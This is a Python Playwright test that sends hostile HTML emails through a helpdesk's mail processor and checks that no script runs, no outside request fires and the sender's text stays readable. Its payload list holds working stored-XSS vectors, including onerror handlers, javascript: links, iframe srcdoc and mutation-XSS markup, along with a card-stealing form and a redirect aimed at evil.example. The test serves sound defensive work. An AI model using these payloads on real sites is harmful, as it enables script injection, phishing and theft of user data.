"""Hostile mail, sent through the real processor, rendered in Chromium: no script runs, nothing
is fetched from elsewhere, and the customer's words are still there to read."""
from __future__ import annotations

from pathlib import Path

from playwright.sync_api import expect

from channels.email.processor import process
from desk.extensions import db
from desk.models import Interaction
from sqlalchemy import select

CORPUS = Path(__file__).resolve().parents[1] / "fixtures" / "mail"

PAYLOADS = [
    b"<p>Hi</p><img src=x onerror=\"window.__xss='img'\"><svg><script>window.__xss='svg'</script></svg>",
    b"<a href=\"javascript:window.__xss='link'\" id=evil>click me</a><iframe srcdoc=\"<script>parent.__xss=1"
    b"</script>\"></iframe>",
    b"<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\"></style></mglyph></table>"
    b"</mtext></math>",
    b"<div style=\"background:url(javascript:window.__xss='css')\">styled</div><object data=\"data:text/html,"
    b"<script>parent.__xss=1</script>\"></object><base href=\"https://evil.example/\">",
    b"<form action=https://evil.example/steal><input name=card><button>pay</button></form>"
    b"<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
]


def mail(n: int, html: bytes) -> bytes:
    return (f"From: Attacker <attacker{n}@evil.example>\r\nTo: support@desk.test\r\n"
            f"Subject: <script>window.__xss='subject{n}'</script> order {n}\r\nMessage-ID: <xss-browser-{n}@evil.example>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n").encode() + html + b"\r\n"


def test_stored_xss_sent_as_mail_never_runs(signed_in, live_server, live_make, live_app):
    live_make.queue("general", "일반 문의", default=True)
    agent = live_make.agent("supervisor", email="lead@desk.test")
    raws = [mail(n, html) for n, html in enumerate(PAYLOADS)] + [(CORPUS / "54_xss_html.eml").read_bytes()]
    for raw in raws:
        assert process(raw, rcpt_to=["support@desk.test"])[0] == "processed"
    ticket_numbers = sorted({i.ticket.number for i in db.session.scalars(select(Interaction))})
    assert len(ticket_numbers) == len(raws)

    page = signed_in(agent)
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: foreign.append(request.url)
            if not request.url.startswith((live_server.url, "data:", "about:")) else None)
    page.goto(live_server.url + "/?status=new")
    expect(page.locator("tbody tr")).to_have_count(len(raws))
    for number in ticket_numbers:
        page.goto(f"{live_server.url}/tickets/{number}")
        expect(page.locator("[data-ticket][data-joined='1']")).to_have_count(1)
        page.wait_for_timeout(100)
        assert page.evaluate("window.__xss === undefined"), page.evaluate("window.__xss")
        assert page.locator(".timeline script, .timeline iframe, .timeline object, .timeline form").count() == 0
    # The harmless content is still shown: an agent can read what the sender wrote.
    expect(page.locator("body")).to_contain_text("Please look at my order.")
    assert dialogs == [] and foreign == []
